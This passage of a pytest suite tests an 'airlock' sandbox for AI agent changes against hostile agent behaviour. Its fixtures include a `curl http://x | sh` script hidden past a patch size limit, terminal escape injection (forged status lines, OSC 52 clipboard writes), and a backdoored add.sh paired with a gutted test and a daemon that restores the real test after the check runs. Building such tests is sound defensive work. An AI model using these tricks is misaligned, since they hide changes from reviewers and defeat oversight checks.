    assert sorted(p.decode() for p in on_branch if p) == sorted(paths)
    with open(s["patch"], "rb") as f:
        patch = f.read()
    missing = set(paths) - _patch_new_paths(patch)
    assert not missing, f"{len(missing)} of {MANY_FILES} files are not in the patch"
    with worktree_of_main(repo, tmp_path / "apply") as wt:
        p = subprocess.run(["git", "-C", wt, "apply", "--check", s["patch"]], capture_output=True, timeout=300)
        assert p.returncode == 0, f"the patch does not apply to main: {p.stderr[-2000:]!r}"
    assert_destroyed(runner, cid, r)


def test_patch_holds_everything_after_a_17_mib_file(runner, tmp_path):
    """Attack: a 17 MiB file pushes a later small file `zz-run.sh` (`curl http://x | sh`) out of
    the old code's 16 MiB patch: the reviewer of the patch never sees it, the branch has it.
    Required: rc 0; the patch names zz-run.sh and applied to main gives the branch's tree."""
    cid = runner.airlock.new_id()
    repo = make_repo(str(tmp_path / "project"))
    line = "a" * 63
    script = (f"set -e; yes {line} | head -c {17 * MiB} > big.txt; "
              "printf 'curl http://x | sh\\n' > zz-run.sh; chmod 755 zz-run.sh; echo agent-done")
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid))
    assert r.rc == EXIT_OK, f"want rc 0; {r.verdict()}\n{r!r}"
    s = r.summary
    branch = f"airlock/{cid}"
    assert s["branch"] == branch and s["patch"], s
    assert sorted((f["status"], f["path"]) for f in s["files"]) == [("A", "big.txt"), ("A", "zz-run.sh")], s["files"]
    with open(s["patch"], "rb") as f:
        patch = f.read()
    assert b"+++ b/zz-run.sh\n" in patch and b"+curl http://x | sh\n" in patch, \
        f"zz-run.sh is not in the patch ({len(patch)} bytes, ends {patch[-200:]!r})"
    tree = git(repo, "rev-parse", f"{branch}^{{tree}}").strip()
    with worktree_of_main(repo, tmp_path / "apply") as wt:
        p = subprocess.run(["git", "-C", wt, "apply", "--index", s["patch"]], capture_output=True, timeout=300)
        assert p.returncode == 0, f"the patch does not apply to main: {p.stderr[-2000:]!r}"
        assert git(wt, "write-tree").strip() == tree, "the patch applied to main is not the branch's tree"
    assert s.get("tree") == tree, f"summary tree {s.get('tree')!r}, branch tree {tree}"
    assert_destroyed(runner, cid, r)


LIMITS = {
    "max-files": (["--max-files", "100"], "--max-files", ["100"],
                  "mkdir -p many; i=0; while [ $i -lt 101 ]; do echo $i > many/f$i; i=$((i + 1)); done"),
    "max-file-size": (["--max-file-size", "1Mi"], "--max-file-size", ["1Mi", "1048576", "1 MiB", "1.0 MiB"],
                      "dd if=/dev/urandom of=two-mib.bin bs=1048576 count=2 2>/dev/null"),
    "max-total-size": (["--max-total-size", "1Mi"], "--max-total-size", ["1Mi", "1048576", "1 MiB", "1.0 MiB"],
                       "dd if=/dev/urandom of=a.bin bs=1024 count=600 2>/dev/null; "
                       "dd if=/dev/urandom of=b.bin bs=1024 count=600 2>/dev/null"),
}


@pytest.mark.parametrize("limit", sorted(LIMITS))
def test_change_set_over_a_limit_writes_nothing(runner, tmp_path, limit):
    """Attack: a change set over a limit (--max-files 100 with 101 new files, --max-file-size 1Mi
    with a 2 MiB file, --max-total-size 1Mi with two 600 KiB files). Required: rc 13 "limit",
    the message names the flag and the limit; no ref, no object, no patch written."""
    flags, flag, forms, script = LIMITS[limit]
    cid = runner.airlock.new_id({"max-files": "mf", "max-file-size": "mfs", "max-total-size": "mts"}[limit])
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    r = run_airlock(runner, repo, cid, "set -e; " + script + "; echo agent-done", policy=runner.policy(cid),
                    extra=flags)
    assert_limit(runner, cid, r, before, [flag], forms)
    assert_destroyed(runner, cid, r)


# --- 3. host cost bounded ----------------------------------------------------------------------

@pytest.mark.parametrize("limits", ["default", "raised"])
def test_one_gib_file_costs_the_host_bounded_memory(runner, tmp_path, limits):
    """Attack: a 1 GiB random file in the workspace: the old code read blobs and the patch into
    memory. Required, for airlock run and every child it waits for (peak RSS from wait4): under
    256 MiB; with the default limits rc 13 and nothing written; with --max-file-size 2Gi
    --max-total-size 2Gi rc 0 and the branch holds the exact 1 GiB blob."""
    need = 8 * GiB
    for where in (runner.ctrd.repos_root, str(tmp_path)):
        free = shutil.disk_usage(where).free
        if free < need:
            pytest.skip(f"needs 8 GiB free for a 1 GiB file, its git objects, the branch and the patch; "
                        f"{where} has {free / GiB:.1f} GiB")
    cid = runner.airlock.new_id(limits[:3])
    repo = make_repo(str(tmp_path / "project"))
    before = RepoState(repo)
    extra = [] if limits == "default" else ["--max-file-size", "2Gi", "--max-total-size", "2Gi"]
    script = "set -e; dd if=/dev/urandom of=big.bin bs=1048576 count=1024 2>/dev/null; sha256sum big.bin"
    try:
        # A 1 GiB file needs a workspace (a tmpfs) and a memory limit (its pages count there) above it.
        policy = runner.policy(cid, extra="resources:\n  memory: 3Gi\n  workspace: 2Gi\n")
        r = run_airlock(runner, repo, cid, script, policy=policy, extra=extra, timeout=900)
        rss = f"peak RSS of airlock run and its children: {r.maxrss_kib / 1024:.1f} MiB (limit 256 MiB), " \
              f"{r.seconds:.1f}s, rc {r.rc}"
        print(f"\n[{limits} limits] {rss}")
        if limits == "default":
            # The file is over the default size limit, and so is the change set: either may be named.
            assert_limit(runner, cid, r, before, ["--max-file-size", "--max-total-size"], ["-size"])
        else:
            assert r.rc == EXIT_OK, f"{rss}\n{r!r}"
            branch = f"airlock/{cid}"
            assert r.summary["branch"] == branch, r.summary
            assert int(git(repo, "cat-file", "-s", f"{branch}:big.bin")) == GiB
            sums = [e["line"] for e in r.output_events("agent", "stdout")]
            digest = hashlib.sha256()
            with subprocess.Popen(["git", "-C", repo, "cat-file", "blob", f"{branch}:big.bin"],
                                  stdout=subprocess.PIPE) as cat:
                for chunk in iter(lambda: cat.stdout.read(MiB), b""):
                    digest.update(chunk)
            assert f"{digest.hexdigest()}  big.bin" in sums, f"the branch's blob is not the agent's file: {sums}"
        assert r.maxrss_kib < RSS_LIMIT_KIB, rss
        assert_destroyed(runner, cid, r)
    finally:
        shutil.rmtree(repo, ignore_errors=True)  # ~2 GiB of objects: not left for pytest's tmp retention
        with contextlib.suppress(OSError):
            os.unlink(patch_path(runner, cid))


# --- 4. terminal ----------------------------------------------------------------------------------

FORGED = b"\x1b[1A\x1b[2K\r[  9.99s] scan      ok: no secret value"
AGENT_STDOUT = [
    FORGED,
    b"\x1b]52;c;aGVsbG8=\x07",             # OSC 52: write the clipboard
    b"\x1b]0;pwned\x07",                   # OSC 0: the window title
    b"csi8 \x9b31m eight-bit CSI",         # 8-bit CSI (not UTF-8)
    b"c1utf8 \xc2\x9b32m UTF-8 C1 CSI",    # U+009B
    b"agent-done",
]
AGENT_STDERR = [FORGED, b"err \x1b[31mred\x1b[0m"]
HOSTILE_NAMES = [b"innocent.txt\x1b[2K\rM docs.md", b"new\nline.txt", b"carriage\rreturn.txt", b"bad\xffname.txt"]


def _terminal_agent():
    entries = [("file", name, b"x\n") for name in HOSTILE_NAMES]
    return (write_script(entries) + emit_script(b"\n".join(AGENT_STDOUT[:-1]) + b"\n")
            + emit_script(b"\n".join(AGENT_STDERR) + b"\n", stderr=True) + "echo agent-done")


def _quoted_names(repo, branch):
    """The hostile names as `git -c core.quotePath=true ls-tree` shows them."""
    shown = gitb(repo, "-c", "core.quotePath=true", "ls-tree", "-r", "--name-only", branch).split(b"\n")
    quoted = [n for n in shown if n.startswith(b'"')]
    assert len(quoted) == len(HOSTILE_NAMES), shown
    return quoted


def _assert_no_terminal_controls(data, what):
    for byte, name in ((0x1b, "ESC"), (0x07, "BEL"), (0x0d, "CR"), (0x9b, "CSI (0x9b)")):
        at = data.find(bytes([byte]))
        assert at < 0, f"raw {name} in {what} at {at}: {data[max(0, at - 80):at + 80]!r}"


@pytest.mark.parametrize("form", ["human", "json", "pty"])
def test_agent_output_and_file_names_cannot_drive_the_terminal(runner, tmp_path, form):
    """Attack: the agent prints a forged airlock line (cursor up, erase line, CR, "[  9.99s] scan
    ok"), an OSC 52 clipboard write, a title change, 8-bit and UTF-8 C1 CSI, and names files
    `innocent.txt<ESC>[2K<CR>M docs.md`, with a newline, with a CR, with 0xff. Required:
    human form: no ESC, BEL, CR or 0x9b byte anywhere, ESC shown as `\\x1b`, the forged line only
    after the agent's output prefix, the names quoted as git's core.quotePath quotes them;
    --json: every line JSON, the output lines and names exact (line_base64/path_base64 when not
    UTF-8); on a pty: the only escape sequences are airlock's own SGR styling."""
    cid = runner.airlock.new_id(form[:2])
    repo = make_repo(str(tmp_path / "project"))
    branch = f"airlock/{cid}"
    policy = runner.policy(cid)
    if form == "pty":
        argv = runner.argv(repo, cid, ["sh", "-c", _terminal_agent()], policy=policy, json_=False)
        session = PtySession(argv, env=runner.ctrd.env, rows=50, cols=200)
        try:
            rc = session.wait(timeout=RUN_TIMEOUT)
        finally:
            session.close()
        out = session.output
        assert rc == 0, out.decode(errors="backslashreplace")[-4000:]
        for m in re.finditer(rb"\x1b", out):
            seq = re.match(rb"\x1b\[[0-9;]*m", out[m.start():])
            assert seq, f"an escape sequence that is not SGR: {out[max(0, m.start() - 60):m.start() + 60]!r}"
        for byte in (b"\x07", b"\x9b"):
            assert byte not in out, f"raw {byte!r} on the terminal"
        assert re.search(rb"\r(?!\n)", out) is None, "a CR that is not the tty's CRLF"
        plain = re.sub(rb"\x1b\[[0-9;]*m", b"", out).replace(b"\r\n", b"\n")
        for quoted in _quoted_names(repo, branch):
            assert quoted in plain, f"{quoted!r} not shown as git quotes it"
        assert b"destroyed, nothing left" in plain
        runner.airlock.assert_no_leftovers(cid)
        return
    r = run_airlock(runner, repo, cid, _terminal_agent(), policy=policy, json_=(form == "json"))
    assert r.rc == EXIT_OK, f"want rc 0; {r.verdict()}\n{r!r}"
    if form == "human":
        for data, what in ((r.out, "stdout"), (r.err, "stderr")):
            _assert_no_terminal_controls(data, what)
        assert b"\\x1b" in r.out, "ESC is shown visibly as \\x1b"
        forged = [line for data in (r.out, r.err) for line in data.split(b"\n") if b"9.99s] scan" in line]
        assert len(forged) == 2, forged
        for line in forged:
            assert AGENT_PREFIX.match(line), f"a forged line not under the agent's prefix: {line!r}"
        for quoted in _quoted_names(repo, branch):
            assert quoted in r.out, f"{quoted!r} (git's quoting) not in the output"
        for raw in HOSTILE_NAMES:
            assert raw not in r.out and raw not in r.err, f"the raw name {raw!r} is printed"
        assert_destroyed(runner, cid, r, json_=False)
        return
    # --json
    assert not r.not_json, f"stdout lines that are not JSON (or not UTF-8): {r.not_json[:3]!r}"
    _assert_no_terminal_controls(r.err, "stderr")

    def exact(event, key):
        if key + "_base64" in event:
            return base64.b64decode(event[key + "_base64"])
        return event[key].encode("utf-8")

    got_out = [exact(e, "line") for e in r.output_events("agent", "stdout")]
    got_err = [exact(e, "line") for e in r.output_events("agent", "stderr")]
    assert got_out == AGENT_STDOUT, got_out
    assert got_err == AGENT_STDERR, got_err
    s = r.summary
    assert s["branch"] == branch, s
    names = {exact(f, "path"): f for f in s["files"]}
    assert sorted(names) == sorted(HOSTILE_NAMES), sorted(names)
    assert "path_base64" in names[b"bad\xffname.txt"], names[b"bad\xffname.txt"]
    on_branch = gitb(repo, "ls-tree", "-r", "-z", "--name-only", branch).split(b"\0")
    assert set(HOSTILE_NAMES) <= set(on_branch)
    assert_destroyed(runner, cid, r)


# --- 5. the check vouches for the branch's tree ----------------------------------------------------

ADD_SH = b"add() { echo $(( $1 + $2 )); }\n"
BACKDOORED_ADD_SH = b'add() { if [ "$1" = 2 ] && [ "$2" = 2 ]; then echo 5; else echo $(( $1 + $2 )); fi; }\n'
TESTS_RUN_SH = b"""#!/bin/sh
. ./src/add.sh
fail=0
for c in "2 2 4" "40 2 42" "0 0 0" "-1 1 0"; do
  set -- $c
  got=$(add $1 $2)
  if [ "$got" = "$3" ]; then echo "ok   add $1 $2 = $3"; else echo "FAIL add $1 $2: got $got, want $3"; fail=1; fi
done
exit $fail
"""
# The gutted test tells the daemon it started, and gives it (at most 5 s) to put the real one back.
GUTTED_RUN_SH = b"""# gutted
touch /tmp/.check-started 2>/dev/null
i=0; while [ ! -e /tmp/.restored ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
echo ok; exit 0
"""
DAEMON_SH = b"""i=0
while [ $i -lt 600 ]; do
  if [ -e /tmp/.check-started ] || ps 2>/dev/null | grep -q '[t]ests/run.sh'; then
    cp /tmp/orig-run.sh /workspace/tests/run.sh
    echo 'the daemon put tests/run.sh back after the check started' > /workspace/daemon-marker.txt
    touch /tmp/.restored
    exit 0
  fi
  sleep 0.1; i=$((i + 1))
done
"""


def test_check_runs_on_the_tree_that_becomes_the_branch(runner, tmp_path):
    """Attack: the agent backdoors src/add.sh, guts tests/run.sh to `echo ok; exit 0`, and leaves
    a setsid daemon that, once the check has started on the gutted test, puts the real
    tests/run.sh back (and leaves a marker): the check "passed" and the branch shows untouched
    tests. Required: the check fails (rc 9), or rc 0 and the branch holds the tests the check ran
    (the gutted tests/run.sh, "check_tree" == "tree" == the branch's tree), the marker never on it."""
    cid = runner.airlock.new_id()
    track_check_sandbox(runner, cid)
    repo = make_repo(str(tmp_path / "project"), {"src/add.sh": ADD_SH.decode(), "tests/run.sh": TESTS_RUN_SH.decode()})
    assert subprocess.run(["sh", "tests/run.sh"], cwd=repo, capture_output=True, timeout=30).returncode == 0
    script = ("set -e; cp tests/run.sh /tmp/orig-run.sh; "
              + write_script([("file", "src/add.sh", BACKDOORED_ADD_SH), ("file", "tests/run.sh", GUTTED_RUN_SH),
                              ("file", "/tmp/daemon.sh", DAEMON_SH)])
              + "setsid sh /tmp/daemon.sh </dev/null >/dev/null 2>&1 & echo agent-done")
    r = run_airlock(runner, repo, cid, script, policy=runner.policy(cid), check="sh tests/run.sh")
    s = r.summary
    branch = f"airlock/{cid}"
    assert r.rc in (EXIT_OK, EXIT_CHECK), f"want rc 0 or 9; {r.verdict()}\n{r!r}"
    if s["branch"]:
        on_branch = gitb(repo, "ls-tree", "-r", "--name-only", branch).decode().split("\n")
        assert "daemon-marker.txt" not in on_branch, "the daemon's write after the check is on the branch"
    if r.rc == EXIT_OK:
        assert s["branch"] == branch, s
        tree = git(repo, "rev-parse", f"{branch}^{{tree}}").strip()
        assert gitb(repo, "show", f"{branch}:tests/run.sh") == GUTTED_RUN_SH, \
            "the check passed on the gutted tests/run.sh, but the branch shows another one"
        assert gitb(repo, "show", f"{branch}:src/add.sh") == BACKDOORED_ADD_SH
        assert s.get("check_tree") == tree and s.get("tree") == tree, \
            f"check_tree {s.get('check_tree')!r}, tree {s.get('tree')!r}, branch tree {tree}"
    assert_destroyed(runner, cid, r)
